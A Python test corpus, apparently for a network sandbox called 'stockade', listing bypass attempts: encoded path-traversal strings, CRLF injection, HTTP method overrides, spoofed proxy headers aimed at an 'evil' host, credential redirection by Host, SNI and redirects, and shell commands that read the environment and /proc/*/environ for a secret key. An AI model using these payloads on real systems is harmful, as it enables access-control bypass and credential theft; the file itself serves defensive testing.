"""Attempts to have a granted host do what was not granted, and to misuse a credential."""

from __future__ import annotations

from stockade.selftest.corpus.attempt import Attempt, asking, get
from stockade.selftest.hosts import ADDRESSES, API, EVIL, OTHER

_PATHS = {
    "plain": "/private/{mark}",
    "dot segments": "/public/../private/{mark}",
    "encoded dots": "/public/%2e%2e/private/{mark}",
    "half-encoded dots": "/public/.%2e/private/{mark}",
    "encoded twice": "/public/%252e%252e/private/{mark}",
    "encoded three times": "/public/%25252e%25252e/private/{mark}",
    "encoded slashes": "/public/..%2fprivate/{mark}",
    "encoded slashes and dots": "/public%2f%2e%2e%2fprivate/{mark}",
    "two slashes": "//private/{mark}",
    "two slashes within": "/public//../private/{mark}",
    "semicolon": "/public/..;/private/{mark}",
    "parameter": "/public;x/../private/{mark}",
    "encoded semicolon": "/public/..%3b/private/{mark}",
    "backslash": "/public\\..\\private\\{mark}",
    "encoded backslash": "/public/..%5cprivate/{mark}",
    "fragment": "/private/{mark}#/public/x",
    "fragment in a granted path": "/public/../private/{mark}#",
    "encoded NUL": "/private/{mark}%00/public/",
    "encoded line end": "/public/%0d%0aGET%20/private/{mark}",
    "overlong dots": "/public/%c0%ae%c0%ae/private/{mark}",
    "overlong slash": "/public/..%c0%afprivate/{mark}",
    "unicode dots": "/public/%u002e%u002e/private/{mark}",
    "full-width dots": "/public/%ef%bc%8e%ef%bc%8e/private/{mark}",
    "broken encoding": "/public/%2/../private/{mark}",
    "bytes that are no ASCII": "/public/\xae\xae/../private/{mark}",
    "capitals": "/PUBLIC/{mark}",
    "a space": "/public/ /../private/{mark}",
    "query before": "/private/{mark}?/public/x",
    "encoded question mark": "/private/{mark}%3f/public/x",
    "the parent of what is granted": "/public/%2e%2e/{mark}",
    "a longer name": "/public-not/{mark}",
}
_METHODS = {
    "DELETE": ("DELETE", ()),
    "POST": ("POST", ("Content-Length: 0",)),
    "PUT": ("PUT", ("Content-Length: 0",)),
    "TRACE": ("TRACE", ()),
    "small letters": ("get", ()),
    "one of its own": ("STEAL", ()),
    "empty": ("", ()),
    "PRI": ("PRI", ()),
    "DELETE that says to be GET": ("DELETE", ("X-HTTP-Method-Override: GET",)),
    "DELETE that says to be GET by X-HTTP-Method": ("DELETE", ("X-HTTP-Method: GET",)),
    "DELETE that says to be GET by X-Method-Override": ("DELETE", ("X-Method-Override: GET",)),
}
_FIELDS = {
    "x-stockade-route": "direct",
    "x-stockade-rule": "network[0]",
    "x-stockade-session": "fd57:c4a:de00::1",
    "x-stockade-address": f"{ADDRESSES[EVIL]}:443",
    "x-envoy-original-dst-host": f"{ADDRESSES[EVIL]}:443",
    "x-envoy-original-path": "/public/x",
    "x-envoy-internal": "true",
    "x-envoy-upstream-alt-stat-name": "x",
    "x-envoy-retry-on": "5xx",
    "x-forwarded-host": API,
    "x-forwarded-for": "127.0.0.1",
    "x-forwarded-proto": "https",
    "x-original-url": "/public/x",
    "x-rewrite-url": "/public/x",
    "forwarded": f"host={EVIL}",
    "x-host": EVIL,
    "proxy-authorization": "Basic YTpi",
    ":authority": EVIL,
    ":path": "/private/{mark}",
}
_GIVEN = "/given/{mark}"
_LENGTH = "Content-Length: 0"
_BEARER = "Authorization: Bearer {mark}"


def _given(
    name: str,
    target: str,
    *fields: str,
    method: str = "POST",
    said: str = API,
    host: str = API,
    tls: str | None = None,
) -> Attempt:
    text = get(target, _LENGTH, *fields, host=said, method=method)
    return asking("credential", name, text, host=host, tls=tls)


ATTEMPTS = [
    *(asking("path", name, get(path), plain=True) for name, path in _PATHS.items()),
    *(
        asking("method", name, get("/public/{mark}", *fields, method=method), plain=True)
        for name, (method, fields) in _METHODS.items()
    ),
    *(
        asking("header", f"{name} at a path that is not granted",
               get("/private/{mark}", f"{name}: {value}"), plain=True)
        for name, value in _FIELDS.items()
    ),
    *(
        asking("header", f"{name} with evil's Host",
               get("/public/{mark}", f"{name}: {value}", host=EVIL), plain=True)
        for name, value in _FIELDS.items()
        if name.startswith(("x-stockade", "x-envoy-original", "x-forwarded-host"))
    ),
    _given("an Authorization of one's own", _GIVEN, _BEARER),
    _given("two Authorizations", _GIVEN, _BEARER, "authorization: Basic YTpi"),
    _given("to the public path", "/public/{mark}"),
    _given("to another path", "/private/{mark}"),
    _given("to another path by dots", "/given/../private/{mark}"),
    _given("by another method", _GIVEN, method="PUT"),
    _given("by GET", _GIVEN, method="GET"),
    _given("to evil by Host", _GIVEN, said=EVIL),
    _given("to evil by SNI", _GIVEN, tls=EVIL),
    _given("to another host", _GIVEN, said=OTHER, host=OTHER),
    _given("to evil's address", _GIVEN, host=ADDRESSES[EVIL], tls=API),
    _given("in plain", _GIVEN, tls=""),
    _given("asked for by rule", "/public/{mark}", "x-stockade-rule: network[1]", method="GET"),
    Attempt("credential", "carried by a redirect", "fetch", {
        "url": f"https://{API}/given/redirect?m={{mark}}&code=302&to=https://{EVIL}/{{mark}}",
        "method": "POST", "body": "x",
    }),
    Attempt("credential", "carried by a redirect to the same host", "fetch", {
        "url": f"https://{API}/given/redirect?m={{mark}}&code=302&to=https://{API}/public/{{mark}}",
        "method": "POST", "body": "x",
    }),
    *(
        Attempt("credential", f"in {place}", "command",
                {"words": ["sh", "-c", f"{command} 2>/dev/null | grep -q SELFTEST_KEY"]})
        for place, command in (("the environment", "env"), ("processes", "cat /proc/*/environ"))
    ),
]  # fmt: skip
